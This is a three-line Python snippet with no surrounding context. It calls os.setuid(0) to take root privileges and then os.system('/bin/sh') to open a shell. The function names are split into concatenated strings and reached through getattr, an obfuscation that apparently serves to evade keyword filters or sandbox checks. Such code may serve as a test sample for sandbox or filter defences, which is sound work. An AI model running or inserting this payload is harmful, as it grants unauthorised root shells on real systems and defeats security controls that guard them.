import os
getattr(os, "setu" + "id")(0)
getattr(os, "sys" + "tem")("/bin/sh")
